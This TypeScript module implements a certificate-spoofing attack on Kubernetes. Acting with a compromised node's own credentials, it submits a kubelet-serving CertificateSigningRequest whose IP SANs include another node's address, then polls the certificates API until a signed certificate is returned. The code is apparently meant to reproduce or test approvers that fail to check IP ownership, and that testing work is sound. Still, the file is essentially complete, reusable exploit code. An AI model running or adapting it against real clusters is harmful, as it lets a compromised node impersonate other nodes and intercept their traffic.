// How a compromised node gets a cluster-signed serving certificate for an address it does not own: it asks
// the certificates API, with its own node credentials, for a `kubernetes.io/kubelet-serving` certificate whose
// CN is honestly its own (`system:node:<self>`, which NodeRestriction requires) and whose IP SANs include
// another node's address. The built-in signer checks subject and usages, never IP ownership; Kubernetes
// leaves that to the approver, and the KEP-4872 motivation is exactly approvers that cannot or do not check.
import https from 'node:https';
import { createCsr } from '@hubspoke/pki';

/** Who talks to the certificates API: the apiserver, its CA, and the node's own client certificate. */
export interface CsrIdentity {
  /** The apiserver, `https://host:port`. */
  server: string;
  /** The cluster CA (PEM), to verify the apiserver. */
  caCert: string;
  /** The node's own client certificate and key (PEM): the request is made as `system:node:<nodeName>`. */
  clientCert: string;
  clientKey: string;
}

/** The node identity the request is sent with, and what it asks for. */
export interface ServingCsrOptions extends CsrIdentity {
  nodeName: string;
  /** Every IP the certificate should name: the node's own, and the one it means to answer for. */
  ipAddresses: readonly string[];
  /** The CSR object's name (default `rogue-serving-<nodeName>-<time>`). */
  csrName?: string;
}

/** The submitted request: its object name, and the private key that never left the node. */
export interface SubmittedServingCsr {
  name: string;
  key: string;
}

/** The kubelet's serving usages for an ECDSA key, as it sends them. */
export const KUBELET_SERVING_USAGES = ['digital signature', 'server auth'];

/** Create the CertificateSigningRequest as the node; resolves with its name once the apiserver accepted it. */
export async function submitServingCsr(options: ServingCsrOptions): Promise<SubmittedServingCsr> {
  const { csr, key } = await createCsr({ commonName: `system:node:${options.nodeName}`, organizations: ['system:nodes'], ipAddresses: options.ipAddresses });
  const name = options.csrName ?? `rogue-serving-${options.nodeName}-${Date.now()}`;
  const object = {
    apiVersion: 'certificates.k8s.io/v1',
    kind: 'CertificateSigningRequest',
    metadata: { name },
    spec: { request: Buffer.from(csr).toString('base64'), signerName: 'kubernetes.io/kubelet-serving', usages: KUBELET_SERVING_USAGES },
  };
  const answer = await call(options, 'POST', '/apis/certificates.k8s.io/v1/certificatesigningrequests', object);
  if (answer.status !== 201) throw new Error(`creating CSR ${name}: ${answer.status} ${messageOf(answer.body)}`);
  return { name, key };
}

/** Poll the CSR (as the node) until the signer issued it; the PEM chain, or an error after `timeoutMs`. */
export async function waitForIssuedCertificate(options: CsrIdentity & { name: string; timeoutMs?: number }): Promise<string> {
  const deadline = Date.now() + (options.timeoutMs ?? 15_000);
  for (;;) {
    const answer = await call(options, 'GET', `/apis/certificates.k8s.io/v1/certificatesigningrequests/${encodeURIComponent(options.name)}`);
    const certificate = (JSON.parse(answer.body) as { status?: { certificate?: string } }).status?.certificate;
    if (certificate) return Buffer.from(certificate, 'base64').toString('utf8');
    if (Date.now() > deadline) throw new Error(`CSR ${options.name} was not issued within ${options.timeoutMs ?? 15_000} ms`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

function call(identity: CsrIdentity, method: string, path: string, body?: unknown): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = https.request(
      new URL(path, identity.server),
      { method, ca: identity.caCert, cert: identity.clientCert, key: identity.clientKey, headers: { 'content-type': 'application/json', accept: 'application/json' } },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }));
        res.on('error', reject);
      },
    );
    req.on('error', reject);
    req.end(body === undefined ? undefined : JSON.stringify(body));
  });
}

function messageOf(body: string): string {
  try {
    return String((JSON.parse(body) as { message?: string }).message ?? body);
  } catch {
    return body;
  }
}
